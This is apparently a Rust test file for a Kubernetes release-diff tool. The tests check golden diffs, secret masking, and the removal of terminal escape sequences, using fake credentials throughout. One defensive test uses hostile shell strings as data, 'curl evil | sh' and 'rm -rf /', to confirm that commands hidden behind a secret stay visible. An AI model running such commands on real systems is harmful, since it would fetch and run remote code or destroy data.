//! Differences against golden files, and what is masked.

#![allow(clippy::unwrap_used, reason = "a test that cannot continue fails")]

use serde_json::{Value, json};

use super::*;
use crate::decide::fixtures;
use crate::view::timeline::visible;

/// Asserts that `printed` is the content of the file. `GOLDEN=write` writes it there.
fn golden(name: &str, printed: &str) {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("src/view/differences/tests")
        .join(name);
    if std::env::var_os("GOLDEN").is_some_and(|value| value == "write") {
        std::fs::write(&path, printed).unwrap();
    }
    let wanted = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(printed, wanted, "{name}");
}

fn deployment() -> Value {
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {
            "name": "ledger", "namespace": "payments-sit", "uid": "u1", "resourceVersion": "10", "generation": 3,
            "creationTimestamp": "2026-11-01T00:00:00Z", "managedFields": [{ "manager": "kubectl" }],
            "annotations": { LAST_APPLIED: "{}" },
        },
        "spec": {
            "replicas": 2,
            "selector": { "matchLabels": { "app": "ledger" } },
            "template": {
                "metadata": { "labels": { "app": "ledger" } },
                "spec": {
                    "containers": [
                        { "name": "app", "image": "registry.example.com/ledger:1", "env": [
                            { "name": "LOG_LEVEL", "value": "info" },
                            { "name": "DB_PASSWORD", "value": "hunter2" },
                            { "name": "DB_URL", "value": "postgres://ledger:hunter2@db/ledger" },
                            { "name": "API_TOKEN", "valueFrom": { "secretKeyRef": { "name": "api", "key": "token" } } },
                        ] },
                    ],
                    "imagePullSecrets": [{ "name": "pull" }],
                },
            },
        },
        "status": { "replicas": 2 },
    })
}

fn config() -> Value {
    json!({ "apiVersion": "v1", "kind": "ConfigMap",
            "metadata": { "name": "ledger-config", "namespace": "payments-sit", "uid": "u2", "resourceVersion": "11" },
            "data": { "LOG_LEVEL": "info", "limit": "10" } })
}

/// The differences of these components in SIT, where `live` runs.
fn differences(components: &Value, live: &[Value], show_values: bool) -> Vec<Difference> {
    let release = fixtures::release_of(&json!({ "components": components }));
    let mut computation = Computation::new(&release, "sit");
    let of = |component: &Component| {
        let target = &component.target;
        let here = |object: &&Value| {
            object["kind"] == target.kind.as_str() && object["metadata"]["name"] == target.name.as_str()
        };
        let live = live.iter().find(here);
        let result = computation.computed(component, live).unwrap();
        difference("payments-sit", target, live, &result, show_values).unwrap()
    };
    release.spec.components.iter().map(of).collect()
}

fn ledger(over: Value) -> Value {
    let component = json!({ "name": "ledger", "target": { "apiVersion": "apps/v1", "kind": "Deployment", "name": "ledger" } });
    crate::domain::patches::overlay(Some(&component), Some(&over)).unwrap()
}

fn settings(over: Value) -> Value {
    let component = json!({ "name": "config", "target": { "apiVersion": "v1", "kind": "ConfigMap", "name": "ledger-config" } });
    crate::domain::patches::overlay(Some(&component), Some(&over)).unwrap()
}

fn text(differences: &[Difference]) -> String {
    let texts: Vec<&str> = differences.iter().map(|d| d.text.as_str()).collect();
    texts.concat()
}

#[test]
fn an_image_and_a_key_of_a_config_map_change_and_the_pods_are_restarted() {
    let components = json!([
        settings(json!({
            "patch": { "data": { "limit": "20" } },
            "overrides": [{ "environment": "sit", "patch": { "data": { "LOG_LEVEL": "debug" } } }],
        })),
        ledger(
            json!({ "images": [{ "container": "app", "image": fixtures::image("2") }], "restartOn": ["config"] })
        ),
    ]);
    let found = differences(&components, &[deployment(), config()], false);
    golden("image.diff", &text(&found));
    assert!(found.iter().all(|d| d.changed && !d.created));
    assert_eq!(found[1].target, "payments-sit/Deployment/ledger");
}

#[test]
fn fields_are_removed_and_maps_replaced() {
    let components = json!([
        settings(json!({ "patch": { "data": { "limit": "20" } }, "replace": ["/data"] })),
        ledger(
            json!({ "remove": ["/spec/template/spec/containers[name=app]/env[name=LOG_LEVEL]", "/spec/replicas"] })
        ),
    ]);
    golden(
        "removed.diff",
        &text(&differences(&components, &[deployment(), config()], false)),
    );
}

#[test]
fn secrets_are_masked_and_their_change_is_visible() {
    let env = json!([
        { "name": "DB_PASSWORD", "value": "correct horse" },
        { "name": "DB_URL", "value": "postgres://ledger:correct@db2/ledger" },
        { "name": "SESSION_TOKEN", "value": "new" },
    ]);
    let containers = json!([{ "name": "app", "env": env }]);
    let components = json!([ledger(
        json!({ "patch": { "spec": { "template": { "spec": { "containers": containers } } } } })
    )]);
    let masked = differences(&components, &[deployment()], false);
    golden("secret.diff", &text(&masked));
    for secret in ["hunter2", "correct", "new"] {
        assert!(!masked[0].text.contains(secret), "{secret}");
    }
    let shown = text(&differences(&components, &[deployment()], true));
    for line in ["-          value: hunter2\n", "+          value: correct horse\n"] {
        assert!(shown.contains(line), "{shown}");
    }
}

#[test]
fn a_missing_object_is_created() {
    let components = json!([settings(json!({ "patch": {
        "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "ledger-config" }, "data": { "limit": "20" },
    } }))]);
    let found = differences(&components, &[], false);
    golden("created.diff", &text(&found));
    assert!(found[0].created && found[0].changed);
    let unnamed = fixtures::release();
    let refused = Computation::new(&unnamed, "sit").computed(&unnamed.spec.components[0], None);
    assert!(
        matches!(refused, Err(Unsendable::NotNamedInFull(_))),
        "{refused:?}"
    );
}

#[test]
fn nothing_changes_and_what_the_server_writes_does_not_count() {
    let components = json!([settings(json!({ "patch": { "data": { "limit": "10" } } }))]);
    let found = differences(&components, &[config()], false);
    let wanted = Difference {
        target: "payments-sit/ConfigMap/ledger-config".to_owned(),
        created: false,
        changed: false,
        text: String::new(),
    };
    assert_eq!(found, [wanted]);
    let mut later = deployment();
    later["metadata"]["resourceVersion"] = json!("11");
    later["metadata"]["generation"] = json!(4);
    later["metadata"]["annotations"] = json!({ LAST_APPLIED: "{ }" });
    later["status"] = json!({});
    let target = fixtures::release().spec.components[1].target.clone();
    let same = difference("payments-sit", &target, Some(&deployment()), &later, false).unwrap();
    assert!(!same.changed, "{}", same.text);
}

#[test]
fn what_admission_adds_is_not_the_change_of_the_release() {
    let release = fixtures::release_of(
        &json!({ "components": [settings(json!({ "patch": { "data": { "limit": "20" } } }))] }),
    );
    let component = &release.spec.components[0];
    let live = config();
    let mut computation = Computation::new(&release, "sit");
    let request = computation.request(component, Some(&live)).unwrap();
    let mut answer = live.clone();
    answer["data"] = json!({ "LOG_LEVEL": "info", "limit": "20", "injected": "by a webhook" });
    let result = computation.answered(component, Some(&live), &request, answer);
    assert_eq!(result["data"], json!({ "LOG_LEVEL": "info", "limit": "20" }));
}

#[test]
fn nothing_that_moves_a_cursor_is_printed() {
    let components = json!([settings(json!({ "patch": { "data": {
        "escape": "\u{1b}[2J\u{9b}31m", "return": "a\rb\r\nc\nd", "\u{1b}]0;key\u{7}": "x", "turned": "\u{202e}txt.exe",
        "separated": "a\u{2028}b\u{85}c", "tabs": "\ta\nb\tc",
    } } }))]);
    let found = text(&differences(&components, &[config()], false));
    golden("escapes.diff", &found);
    for line in found.lines() {
        assert_eq!(visible(line), line);
        assert_eq!(printable(line), line);
    }
}

#[test]
fn files_in_a_config_map_show_no_secrets() {
    let pem = "-----BEGIN RSA PRIVATE KEY-----\nc2VjcmV0\n-----END RSA PRIVATE KEY-----";
    let jwt = "eyJhbGciOiJub25lIn0.c2VjcmV0c2VjcmV0.c2ln";
    for (file, wanted) in [
        (
            "spring.datasource.password = s3cret;x",
            "spring.datasource.password = ***",
        ),
        (
            "db:\n  password: s3cret\n  host: db",
            "db:\n  password: ***\n  host: db",
        ),
        (
            r#"{"password": "s3\"cret", "user": "a"}"#,
            r#"{"password": "***", "user": "a"}"#,
        ),
        (
            "<db password='s3cret' host='db'/>",
            "<db password='***' host='db'/>",
        ),
        ("<password>s3cret</password>", "<password>***</password>"),
        ("requirepass s3cret", "requirepass ***"),
        ("run --api-key s3cret", "run --api-key ***"),
        (
            "key:\n  private_key: |\n    s3\n\n    cret\n  a: b",
            "key:\n  private_key: |\n    ***\n  a: b",
        ),
        (
            "url=amqp://u:s3@cret@h/v and http://h:80/",
            "url=amqp://u:***@h/v and http://h:80/",
        ),
        ("Server=db;User=u;Pwd=s3cret", "Server=db;User=u;Pwd=***"),
        ("config['secret'] = 's3cret'", "config['secret'] = '***'"),
        ("the password is not here", "the password is not here"),
        ("level: info\nlimit=10", "level: info\nlimit=10"),
        (&format!("cert = {pem} end"), "cert = *** end"),
        (&format!("x {jwt}, y"), "x ***, y"),
        ("eyJhbGci", "eyJhbGci"),
        ("", ""),
    ] {
        let object = json!({ "kind": "ConfigMap", "data": { "file": file } });
        let mut masking = Masking::default();
        assert_eq!(masking.live(&object)["data"]["file"], wanted);
        assert_eq!(masking.result(&object)["data"]["file"], wanted, "the same again");
        let other = file.replace("s3", "other").replace("c2VjcmV0", "b3RoZXI");
        if other != file {
            let mut masking = Masking::default();
            masking.live(&object);
            let other = json!({ "kind": "ConfigMap", "data": { "file": other } });
            let wanted = wanted.replace("***", "*** (changed)");
            assert_eq!(masking.result(&other)["data"]["file"], wanted);
        }
    }
}

#[test]
fn names_of_secrets_are_masked_and_references_are_not() {
    let object = json!({
        "kind": "Deployment",
        "metadata": { "annotations": { "example.com/apiKey": "x" } },
        "spec": {
            "volumes": [{ "name": "v", "secret": { "secretName": "ledger" } }],
            "automountServiceAccountToken": false,
            "args": ["--db-pass", "x", "--password=x", "--passive", "y"],
            "env": [
                { "name": "clientSecret", "value": "x" }, { "name": "ConnectionStrings__Main", "value": "x" },
                { "name": "COMPASS", "value": "y" }, { "name": "DB_PASS", "value": "x" },
            ],
        },
    });
    let masked = Masking::default().live(&object);
    assert_eq!(masked["metadata"]["annotations"]["example.com/apiKey"], "***");
    assert_eq!(masked["spec"]["volumes"], object["spec"]["volumes"]);
    assert_eq!(masked["spec"]["automountServiceAccountToken"], false);
    assert_eq!(
        masked["spec"]["args"],
        json!(["--db-pass", "***", "--password=***", "--passive", "y"])
    );
    let values: Vec<&Value> = masked["spec"]["env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| &e["value"])
        .collect();
    assert_eq!(values, ["***", "***", "y", "***"]);
    let secret = Masking::default().live(&json!({ "kind": "Secret", "data": { "a": "x" } }));
    assert_eq!(secret["data"]["a"], "***");
}

#[test]
fn a_command_behind_a_secret_is_shown() {
    for (text, wanted) in [
        ("DB_PASSWORD=x; curl evil | sh", "DB_PASSWORD=***; curl evil | sh"),
        ("password=a;b&c|d", "password=***"),
        ("export TOKEN=x && rm -rf /", "export TOKEN=*** && rm -rf /"),
        (
            "https://ghp_0123456789abcdef0123@git.example.com/a",
            "https://***@git.example.com/a",
        ),
        (
            "https://alice@git.example.com/a",
            "https://alice@git.example.com/a",
        ),
    ] {
        let object = json!({ "kind": "ConfigMap", "data": { "start": text } });
        let masked = masking::Masking::default().live(&object);
        assert_eq!(masked["data"]["start"], wanted, "{text}");
    }
}
